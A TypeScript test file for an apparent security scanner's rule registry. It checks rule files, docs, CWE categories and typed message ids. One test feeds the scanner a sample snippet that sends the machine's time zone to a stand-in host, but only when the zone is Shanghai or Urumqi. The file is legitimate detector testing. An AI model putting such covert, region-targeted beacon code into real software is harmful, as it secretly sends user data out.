// The rule registry matches the rules folder, and every rule has tests and a doc.
import * as assert from 'assert';
import { existsSync, readdirSync, readFileSync } from 'fs';
import * as path from 'path';
import { Analysis } from '../../src/engine/analysis';
import { VISITED_TYPES } from '../../src/engine/ast';
import { parse } from '../../src/engine/parse';
import { createRule, type RuleContext } from '../../src/engine/rule';
import { scanText } from '../../src/engine/scan';
import { rules } from '../../src/engine/rules';

const root = path.join(__dirname, '..', '..');

describe('rule registry', () => {
  const files = readdirSync(path.join(root, 'src', 'engine', 'rules')).filter((f) => f !== 'index.ts').map((f) => f.replace(/\.ts$/, ''));

  it('lists every rule file, sorted, keyed by the rule id', () => {
    assert.deepStrictEqual([...rules.keys()], [...files].sort());
    for (const [id, rule] of rules) assert.strictEqual(rule.meta.id, id);
  });

  for (const id of files) {
    it(`${id} has a test file and a doc page`, () => {
      assert.ok(existsSync(path.join(root, 'test', 'engine', 'rules', `${id}.test.ts`)), 'test file');
      const doc = path.join(root, 'docs', 'rules', `${id}.md`);
      assert.ok(existsSync(doc), 'doc page');
      assert.match(readFileSync(doc, 'utf8'), new RegExp(`^# ${id}$`, 'm'));
    });
  }

  it('visits only node types the parser lists apart (VISITED_TYPES), so the walk skips the other nodes', () => {
    const { ast, index } = parse('x;');
    const analysis = new Analysis('x;', ast, index);
    const context = { analysis } as unknown as RuleContext;
    const types = [analysis.collectors(), ...[...rules.values()].map((r) => r.create(context))].flatMap((v) => Object.keys(v)).filter((t) => t !== 'Program:exit');
    for (const t of types) assert.ok(VISITED_TYPES.has(t), `${t} is not in VISITED_TYPES`);
    assert.deepStrictEqual([...VISITED_TYPES].filter((t) => !types.includes(t)), [], 'no type is listed that nothing visits');
  });

  it('every rule has a description, category and messages', () => {
    for (const rule of rules.values()) {
      assert.ok(rule.meta.description.length > 20);
      assert.match(rule.meta.category, /^CWE-\d+/);
      assert.ok(Object.keys(rule.meta.messages).length > 0);
    }
  });
});

describe('createRule: typed message ids', () => {
  it('a rule reports only the message ids its meta declares (checked by the compiler)', () => {
    const rule = createRule({
      meta: { id: 'example', description: 'An example.', severity: 'low', category: 'none', messages: { found: 'Found {{what}}.' } },
      create(context) {
        return {
          Literal(node) {
            context.report({ node, messageId: 'found', summary: 'found', data: { what: 'a literal' } });
            // @ts-expect-error: 'fonud' is not one of the rule's messages
            context.report({ node, messageId: 'fonud' });
          },
        };
      },
    });
    assert.deepStrictEqual(Object.keys(rule.meta.messages), ['found']);
  });

  it('one rule can run alone, with the same findings as among all rules', () => {
    const code = 'const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;\nif (["Asia/Shanghai", "Asia/Urumqi"].includes(tz)) fetch("https://x.example", { method: "POST", body: JSON.stringify({ tz }) });\n';
    const all = scanText(code, { file: 'a.js' }).findings;
    for (const id of rules.keys()) {
      const alone = scanText(code, { file: 'a.js', rules: [id] }).findings;
      assert.deepStrictEqual(alone, all.filter((f) => f.ruleId === id), id);
    }
  });
});
